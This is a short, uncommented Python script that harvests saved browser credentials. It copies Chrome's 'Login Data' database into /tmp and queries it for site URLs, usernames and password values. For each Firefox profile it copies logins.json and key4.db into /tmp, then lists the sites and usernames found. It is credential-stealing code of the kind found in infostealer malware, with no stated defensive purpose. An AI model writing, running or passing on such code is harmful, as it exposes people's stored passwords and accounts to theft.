import shutil
import sqlite3
from pathlib import Path

home = Path.home()
chrome = home / ".config/google-chrome/Default"
shutil.copy(chrome / "Login Data", "/tmp/ld.db")
rows = sqlite3.connect("/tmp/ld.db").execute(
    "SELECT origin_url, username_value, password_value FROM logins"
).fetchall()
for profile in (home / ".mozilla/firefox").glob("*.default*"):
    shutil.copy(profile / "logins.json", "/tmp/")
    shutil.copy(profile / "key4.db", "/tmp/")
for url, user, _secret in rows:
    print(f"- {url} ({user})")
